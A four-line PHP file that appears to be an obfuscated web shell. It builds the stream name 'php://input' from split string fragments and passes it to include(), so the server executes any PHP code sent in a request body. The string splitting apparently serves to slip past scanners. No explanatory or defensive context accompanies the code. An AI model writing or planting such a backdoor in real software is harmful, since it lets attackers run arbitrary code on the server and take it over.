<?php
$s = 'ph' . 'p';
$w = $s . ':/' . '/in' . 'put';
include($w);
